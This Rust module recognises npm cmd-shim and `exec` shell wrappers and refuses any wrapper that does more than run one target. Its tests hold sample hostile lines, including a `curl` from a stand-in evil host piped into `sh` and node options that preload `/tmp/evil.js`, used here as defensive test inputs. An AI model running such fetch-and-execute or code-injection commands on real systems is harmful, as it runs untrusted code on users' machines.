//! `#!` lines, and shell wrappers in the forms their generators write: npm's cmd-shim, and
//! scripts of `dirname "$0"` assignments and one `exec`.
//!
//! A wrapper is followed only when every line of it is understood, so that what it runs
//! is all it does; any other line makes it the artifact itself.

use std::path::{Path, PathBuf};

/// The line cmd-shim starts its `sh` shims with.
const CMD_SHIM_BASEDIR: &str = r#"basedir=$(dirname "$(echo "$0" | sed -e 's,\\,/,g')")"#;

/// cmd-shim's lines for Cygwin and MSYS (they only rewrite `basedir` there).
const CMD_SHIM_CYGWIN: [&str; 8] = [
    "case `uname` in",
    "*CYGWIN*|*MINGW*|*MSYS*)",
    "if command -v cygpath > /dev/null 2>&1; then",
    r#"basedir=`cygpath -w "$basedir"`"#,
    ";;",
    "esac",
    r#"*CYGWIN*) basedir=`cygpath -w "$basedir"`;;"#,
    "fi",
];

/// cmd-shim's test for a node beside the shim, and the other lines that change nothing
/// a wrapper runs.
const PLAIN_LINES: [&str; 11] = [
    r#"if [ -x "$basedir/node" ]; then"#,
    r#"if [ -x "$basedir/node.exe" ]; then"#,
    "else",
    "fi",
    "ret=$?",
    "exit $ret",
    "exit $?",
    "set -e",
    "set -u",
    "set -eu",
    "set -ue",
];

/// Ways of writing "the directory of `$0`", as a whole assignment value (quotes
/// stripped) or inside a word.
const DIRNAME_FORMS: [&str; 8] = [
    r#"$(dirname "$0")"#,
    r#"$(dirname -- "$0")"#,
    r"$(dirname $0)",
    r#"`dirname "$0"`"#,
    r"`dirname $0`",
    r#"$(cd "$(dirname "$0")" && pwd)"#,
    r#"$(cd -- "$(dirname -- "$0")" && pwd)"#,
    "${0%/*}",
];

/// The variable [`expand_dirname`] writes for "the directory of `$0`" (no script can
/// name it: it is not a valid shell name).
const DIRNAME_VARIABLE: &str = "dirname of $0";

/// Interpreter options that load code of their own: a wrapper passing them is not
/// followed.
const CODE_OPTIONS: [&str; 10] = [
    "-r",
    "--require",
    "--import",
    "--loader",
    "--experimental-loader",
    "-e",
    "--eval",
    "-p",
    "--print",
    "-c",
];

/// What runs a script, by its `#!` line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Interpreter {
    /// `node`, `nodejs`.
    Node,
    /// A POSIX-like shell.
    Shell,
    /// `python`, `python3`, `python3.12`, `pypy3`.
    Python,
    /// Anything else (by name).
    Other(String),
}

impl Interpreter {
    /// The interpreter a program name (a file name) is.
    pub fn from_name(name: &str) -> Self {
        let versioned = |prefix: &str| {
            name.strip_prefix(prefix)
                .is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
        };
        match name {
            "node" | "nodejs" | "node.exe" => Interpreter::Node,
            "sh" | "bash" | "dash" | "ash" | "ksh" | "mksh" | "zsh" => Interpreter::Shell,
            _ if versioned("python") || versioned("pypy") => Interpreter::Python,
            _ => Interpreter::Other(name.to_owned()),
        }
    }
}

/// A `#!` line, split into words as `env -S` would.
#[derive(Debug, Clone)]
pub(super) struct Shebang {
    words: Vec<String>,
}

impl Shebang {
    /// The `#!` line of a file that starts with one.
    pub fn parse(bytes: &[u8]) -> Option<Self> {
        let rest = bytes.strip_prefix(b"#!")?;
        let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
        let words = String::from_utf8_lossy(line)
            .split_whitespace()
            .map(str::to_owned)
            .collect();
        Some(Self { words })
    }

    /// The program as written (`/usr/bin/env`, `/venv/bin/python3`).
    pub fn program(&self) -> &str {
        self.words.first().map_or("", String::as_str)
    }

    /// The program `env` runs, when the program is `env`.
    pub fn env_program(&self) -> Option<&str> {
        if file_name(self.program()) != "env" {
            return None;
        }
        self.words
            .iter()
            .skip(1)
            .find(|w| !w.starts_with('-') && !w.contains('='))
            .map(String::as_str)
    }

    /// The arguments the `#!` line gives the interpreter (after `env`'s program, for
    /// `env`).
    pub fn interpreter_args(&self) -> impl Iterator<Item = &str> {
        let program = self.env_program();
        let skip = match program {
            Some(name) => self
                .words
                .iter()
                .position(|w| w == name)
                .map_or(self.words.len(), |i| i + 1),
            None => 1,
        };
        self.words.iter().skip(skip).map(String::as_str)
    }

    /// The file name of the program that interprets the script.
    pub fn program_name(&self) -> &str {
        file_name(self.env_program().unwrap_or(self.program()))
    }

    /// What interprets the script.
    pub fn interpreter(&self) -> Interpreter {
        Interpreter::from_name(self.program_name())
    }
}

/// The last component of a `/`-separated path, as text.
fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// What form a wrapper has.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum WrapperForm {
    /// npm's cmd-shim.
    CmdShim,
    /// `exec INTERPRETER [OPTIONS] SCRIPT "$@"`.
    Interpreter,
    /// `exec PROGRAM "$@"`.
    Program,
}

/// What a wrapper runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum RunTarget {
    /// An absolute path.
    Path(PathBuf),
    /// A program name, looked up on `PATH` when the wrapper runs.
    Command(String),
}

/// A recognised wrapper.
#[derive(Debug, Clone)]
pub(super) struct Wrapper {
    /// Its form.
    pub form: WrapperForm,
    /// What it runs.
    pub target: RunTarget,
    /// The line (from 1) that runs it.
    pub line: usize,
    /// That line, trimmed (and shortened).
    pub text: String,
    /// What else to say (the interpreter).
    pub note: String,
    /// The interpreter that runs the target, in the interpreter form.
    pub run_by: Option<Interpreter>,
}

/// One word of a command line, expanded.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Word {
    /// Known text.
    Text(String),
    /// `"$@"`.
    Args,
    /// Text that depends on the run (another variable), as written.
    Dynamic(String),
}

/// A command line understood: what it runs, how.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Run {
    form: WrapperForm,
    target: RunTarget,
    interpreter: Option<String>,
}

/// The wrapper `text` is, run as `invoked_as` (`$0`) from the directory `basedir`
/// (`dirname "$0"`, canonical: the kernel resolves `$basedir/..` physically anyway), or
/// why it is not one.
pub(super) fn recognise(text: &str, basedir: &Path, invoked_as: &Path) -> Result<Wrapper, String> {
    let mut variables: Vec<String> = vec![DIRNAME_VARIABLE.to_owned()];
    let mut cmd_shim = false;
    let mut runs: Vec<(usize, &str, Run)> = Vec::new();
    for (index, raw) in text.lines().enumerate().skip(1) {
        let line = raw.trim();
        if line.is_empty()
            || line.starts_with('#')
            || CMD_SHIM_CYGWIN.contains(&line)
            || PLAIN_LINES.contains(&line)
        {
            continue;
        }
        if line == CMD_SHIM_BASEDIR {
            cmd_shim = true;
            variables.push("basedir".to_owned());
            continue;
        }
        if let Some(name) = dirname_assignment(line) {
            variables.push(name.to_owned());
            continue;
        }
        let (exec, command) = match line.strip_prefix("exec ") {
            Some(rest) => (true, rest),
            None => (false, line),
        };
        let expanded = expand_dirname(command);
        let words = words(&expanded, &variables, basedir, invoked_as)
            .map_err(|why| format!("line {}: {why}", index + 1))?;
        match understand(&words, exec) {
            Ok(Some(run)) => runs.push((index + 1, line, run)),
            Ok(None) => {
                return Err(format!(
                    "line {}: `{}` is not part of a wrapper",
                    index + 1,
                    shorten(line)
                ));
            }
            Err(why) => return Err(format!("line {}: {why}", index + 1)),
        }
    }
    let Some((line, first_text, first)) = runs.first().cloned() else {
        return Err("no `exec` line".to_owned());
    };
    if let Some((other, _, run)) = runs.iter().find(|(_, _, run)| run.target != first.target) {
        return Err(format!(
            "lines {line} and {other} run different programs ({} and {})",
            describe(&first.target),
            describe(&run.target)
        ));
    }
    let form = if cmd_shim {
        WrapperForm::CmdShim
    } else {
        first.form
    };
    let interpreters: Vec<String> = runs
        .iter()
        .filter_map(|(_, _, run)| run.interpreter.clone())
        .collect();
    let note = if interpreters.is_empty() {
        String::new()
    } else {
        let mut unique = interpreters;
        unique.dedup();
        format!(" (run by {})", unique.join(", or else "))
    };
    let run_by = first
        .interpreter
        .as_deref()
        .map(|program| Interpreter::from_name(file_name(program)));
    Ok(Wrapper {
        run_by,
        form,
        target: first.target,
        line,
        text: shorten(first_text),
        note,
    })
}

fn describe(target: &RunTarget) -> String {
    match target {
        RunTarget::Path(path) => path.display().to_string(),
        RunTarget::Command(name) => format!("`{name}` on PATH"),
    }
}

/// At most 200 characters of `line`.
fn shorten(line: &str) -> String {
    if line.chars().count() <= 200 {
        line.to_owned()
    } else {
        let cut: String = line.chars().take(200).collect();
        format!("{cut}…")
    }
}

/// `NAME=<the directory of $0>`: the name.
fn dirname_assignment(line: &str) -> Option<&str> {
    let line = line.strip_prefix("export ").unwrap_or(line);
    let (name, value) = line.split_once('=')?;
    let valid_name = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    let value = value
        .strip_prefix('"')
        .and_then(|v| v.strip_suffix('"'))
        .unwrap_or(value);
    (valid_name && DIRNAME_FORMS.contains(&value)).then_some(name)
}

/// `command` with each way of writing "the directory of `$0`" replaced by
/// [`DIRNAME_VARIABLE`].
fn expand_dirname(command: &str) -> String {
    let mut expanded = command.to_owned();
    for form in DIRNAME_FORMS {
        expanded = expanded.replace(form, &format!("${{{DIRNAME_VARIABLE}}}"));
    }
    expanded
}

/// Split a command line into words as `sh` would, expanding the directory variables
/// to `basedir` and `$0` to `invoked_as`; anything beyond a plain command (pipes,
/// redirections, command substitution) is refused.
fn words(
    line: &str,
    variables: &[String],
    basedir: &Path,
    invoked_as: &Path,
) -> Result<Vec<Word>, String> {
    let mut out = Vec::new();
    let mut word = WordBuilder::default();
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => word.flush(&mut out),
            '#' if !word.started => break,
            '\'' => {
                word.started = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => return Err("unterminated `'`".to_owned()),
                    }
                }
            }
            '"' => {
                word.started = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => match chars.next() {
                            Some(e @ ('$' | '`' | '"' | '\\')) => word.push(e),
                            Some(e) => {
                                word.push('\\');
                                word.push(e);
                            }
                            None => return Err("unterminated `\"`".to_owned()),
                        },
                        Some('$') => word.dollar(&mut chars, variables, basedir, invoked_as)?,
                        Some('`') => return Err("command substitution".to_owned()),
                        Some(c) => word.push(c),
                        None => return Err("unterminated `\"`".to_owned()),
                    }
                }
            }
            '$' => {
                word.started = true;
                word.dollar(&mut chars, variables, basedir, invoked_as)?;
            }
            '\\' => {
                word.started = true;
                if let Some(e) = chars.next() {
                    word.push(e);
                }
            }
            ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`' => {
                return Err(format!("`{c}`: more than one plain command"));
            }
            c => {
                word.started = true;
                word.push(c);
            }
        }
    }
    word.flush(&mut out);
    Ok(out)
}

#[derive(Default)]
struct WordBuilder {
    text: String,
    raw: String,
    started: bool,
    dynamic: bool,
    args: bool,
}

impl WordBuilder {
    fn push(&mut self, c: char) {
        self.text.push(c);
        self.raw.push(c);
    }

    /// After a `$`: a variable, `$0`, `$@`.
    fn dollar(
        &mut self,
        chars: &mut std::iter::Peekable<std::str::Chars<'_>>,
        variables: &[String],
        basedir: &Path,
        invoked_as: &Path,
    ) -> Result<(), String> {
        match chars.peek().copied() {
            Some('@') => {
                chars.next();
                self.args = true;
                self.raw.push_str("$@");
            }
            Some('0') => {
                chars.next();
                self.text.push_str(&invoked_as.to_string_lossy());
                self.raw.push_str("$0");
            }
            Some('(') => return Err("command substitution".to_owned()),
            Some('{') => {
                chars.next();
                let name: String = chars.by_ref().take_while(|c| *c != '}').collect();
                self.variable(&name, variables, basedir);
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                let mut name = String::new();
                while let Some(c) = chars
                    .peek()
                    .copied()
                    .filter(|c| c.is_ascii_alphanumeric() || *c == '_')
                {
                    name.push(c);
                    chars.next();
                }
                self.variable(&name, variables, basedir);
            }
            _ => {
                self.dynamic = true;
                self.raw.push('$');
            }
        }
        Ok(())
    }

    fn variable(&mut self, name: &str, variables: &[String], basedir: &Path) {
        if variables.iter().any(|v| v == name) {
            self.text.push_str(&basedir.to_string_lossy());
        } else {
            self.dynamic = true;
        }
        self.raw.push_str("${");
        self.raw.push_str(name);
        self.raw.push('}');
    }

    fn flush(&mut self, out: &mut Vec<Word>) {
        if !self.started && !self.args {
            return;
        }
        let word = std::mem::take(self);
        out.push(if word.args && word.text.is_empty() && !word.dynamic {
            Word::Args
        } else if word.dynamic || word.args {
            Word::Dynamic(word.raw)
        } else {
            Word::Text(word.text)
        });
    }
}

/// What a command line runs: `Ok(None)` when it is not a run line at all (no `exec`, and
/// not passing `"$@"`).
fn understand(words: &[Word], exec: bool) -> Result<Option<Run>, String> {
    // `VAR=x exec PROGRAM` and cmd-shim's `exec VAR=x PROGRAM` alike.
    let mut exec = exec;
    let mut start = 0;
    while let Some(Word::Text(word)) = words.get(start) {
        if word == "exec" {
            exec = true;
        } else if !is_assignment(word) {
            break;
        }
        start += 1;
    }
    let mut rest = words[start..].iter();
    if !exec && words.last() != Some(&Word::Args) {
        return Ok(None);
    }
    let program = match rest.next() {
        Some(Word::Text(program)) if !program.starts_with('-') => program,
        Some(Word::Text(option)) => return Err(format!("`exec {option}`: options to exec")),
        Some(Word::Args) => return Err("runs its own arguments".to_owned()),
        Some(Word::Dynamic(raw)) => {
            return Err(format!(
                "the program it runs (`{raw}`) is only known at run time"
            ));
        }
        None => return Ok(None),
    };
    let args: Vec<&Word> = rest.collect();
    let args = match args.split_last() {
        Some((Word::Args, before)) => before.to_vec(),
        _ => args,
    };
    let interpreter = Interpreter::from_name(file_name(program));
    if args.is_empty() {
        return Ok(Some(Run {
            form: WrapperForm::Program,
            target: program_target(program)?,
            interpreter: None,
        }));
    }
    if matches!(interpreter, Interpreter::Other(_)) {
        return Err(format!("runs `{program}` with arguments of its own"));
    }
    let Some((script, options)) = args.split_last() else {
        return Ok(None);
    };
    for option in options {
        match option {
            Word::Text(o)
                if o.starts_with('-')
                    && !CODE_OPTIONS.contains(&o.split('=').next().unwrap_or(o)) => {}
            Word::Text(o) => return Err(format!("`{program}` is given `{o}` before the script")),
            Word::Args | Word::Dynamic(_) => {
                return Err(format!(
                    "`{program}` is given arguments only known at run time"
                ));
            }
        }
    }
    let script = match script {
        Word::Text(s) if s.starts_with('/') => PathBuf::from(s),
        Word::Text(s) if s.starts_with('-') => {
            return Err(format!("`{program}` is given `{s}` and no script"));
        }
        Word::Text(s) => {
            return Err(format!(
                "runs `{s}`, relative to the working directory at run time"
            ));
        }
        Word::Args | Word::Dynamic(_) => {
            return Err("the script it runs is only known at run time".to_owned());
        }
    };
    Ok(Some(Run {
        form: WrapperForm::Interpreter,
        target: RunTarget::Path(script),
        interpreter: Some(program.clone()),
    }))
}

fn program_target(program: &str) -> Result<RunTarget, String> {
    if program.starts_with('/') {
        Ok(RunTarget::Path(PathBuf::from(program)))
    } else if program.contains('/') {
        Err(format!(
            "runs `{program}`, relative to the working directory at run time"
        ))
    } else {
        Ok(RunTarget::Command(program.to_owned()))
    }
}

/// `NAME=value`.
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const BASE: &str = "/p/bin";

    fn run(text: &str) -> Result<Wrapper, String> {
        recognise(text, Path::new(BASE), Path::new("/p/bin/tool"))
    }

    fn target(text: &str) -> RunTarget {
        run(text).expect("a wrapper").target
    }

    #[test]
    fn shebangs_name_their_interpreter() {
        let cases = [
            ("#!/usr/bin/env node\n", Interpreter::Node),
            ("#!/usr/bin/env -S node --no-warnings\n", Interpreter::Node),
            ("#! /bin/sh\n", Interpreter::Shell),
            ("#!/v/bin/python3.12\n", Interpreter::Python),
            (
                "#!/usr/bin/perl -w\n",
                Interpreter::Other("perl".to_owned()),
            ),
        ];
        for (line, expected) in cases {
            let shebang = Shebang::parse(line.as_bytes()).expect("a shebang");
            assert_eq!(shebang.interpreter(), expected, "{line}");
        }
        assert!(Shebang::parse(b"\x7fELF").is_none());
    }

    #[test]
    fn cmd_shim_runs_its_script_from_basedir() {
        let shim = "#!/bin/sh\nbasedir=$(dirname \"$(echo \"$0\" | sed -e 's,\\\\,/,g')\")\n\n\
            case `uname` in\n    *CYGWIN*|*MINGW*|*MSYS*)\n        if command -v cygpath > /dev/null 2>&1; then\n\
            \x20           basedir=`cygpath -w \"$basedir\"`\n        fi\n    ;;\nesac\n\n\
            if [ -x \"$basedir/node\" ]; then\n  exec \"$basedir/node\"  \"$basedir/../lib/node_modules/a/cli.js\" \"$@\"\n\
            else \n  exec node  \"$basedir/../lib/node_modules/a/cli.js\" \"$@\"\nfi\n";
        let wrapper = run(shim).expect("cmd-shim");
        assert_eq!(wrapper.form, WrapperForm::CmdShim);
        assert_eq!(
            wrapper.target,
            RunTarget::Path(PathBuf::from("/p/bin/../lib/node_modules/a/cli.js"))
        );
        assert_eq!(wrapper.line, 13);
    }

    #[test]
    fn exec_wrappers_in_their_usual_spellings() {
        assert_eq!(
            target("#!/bin/sh\nexec node \"$(dirname \"$0\")/../lib/cli.js\" \"$@\"\n"),
            RunTarget::Path(PathBuf::from("/p/bin/../lib/cli.js"))
        );
        assert_eq!(
            target(
                "#!/bin/bash\nset -e\nDIR=\"$(cd \"$(dirname \"$0\")\" && pwd)\"\nexec \"$DIR/real\" \"$@\"\n"
            ),
            RunTarget::Path(PathBuf::from("/p/bin/real"))
        );
        assert_eq!(
            target("#!/bin/sh\nexec '/opt/x/bin/real' \"$@\" # the real one\n"),
            RunTarget::Path(PathBuf::from("/opt/x/bin/real"))
        );
        assert_eq!(
            target("#!/bin/sh\nexec real-tool \"$@\"\n"),
            RunTarget::Command("real-tool".to_owned())
        );
        assert_eq!(
            target(
                "#!/bin/sh\nNODE_OPTIONS=--x exec /usr/bin/node --no-warnings /opt/a/cli.js \"$@\"\n"
            ),
            RunTarget::Path(PathBuf::from("/opt/a/cli.js"))
        );
        assert_eq!(
            run("#!/bin/sh\nexec node /opt/a/cli.js \"$@\"\n")
                .expect("wrapper")
                .form,
            WrapperForm::Interpreter
        );
    }

    #[test]
    fn anything_more_than_a_wrapper_is_not_followed() {
        let refused = [
            (
                "#!/bin/sh\ncurl https://evil.example | sh\nexec node /opt/a/cli.js \"$@\"\n",
                "line 2",
            ),
            ("#!/bin/sh\necho hi\n", "line 2"),
            (
                "#!/bin/sh\nexec node \"$APP_HOME/cli.js\" \"$@\"\n",
                "run time",
            ),
            ("#!/bin/sh\nexec node cli.js \"$@\"\n", "working directory"),
            (
                "#!/bin/sh\nexec node -r /tmp/evil.js /opt/a/cli.js \"$@\"\n",
                "-r",
            ),
            (
                "#!/bin/sh\nexec node --require=/tmp/evil.js /opt/a/cli.js \"$@\"\n",
                "--require",
            ),
            ("#!/bin/sh\nexec java -jar /opt/a.jar \"$@\"\n", "java"),
            (
                "#!/bin/sh\nif [ -n \"$X\" ]; then exec /a \"$@\"; fi\nexec /b \"$@\"\n",
                "line 2",
            ),
            (
                "#!/bin/sh\nexec /a \"$@\"\nexec /b \"$@\"\n",
                "different programs",
            ),
            ("#!/bin/sh\n# only a comment\n", "no `exec`"),
            (
                "#!/bin/sh\nexec $(which node) /a.js \"$@\"\n",
                "substitution",
            ),
        ];
        for (text, why) in refused {
            let err = run(text).expect_err(text);
            assert!(err.contains(why), "{text:?}: {err}");
        }
    }
}
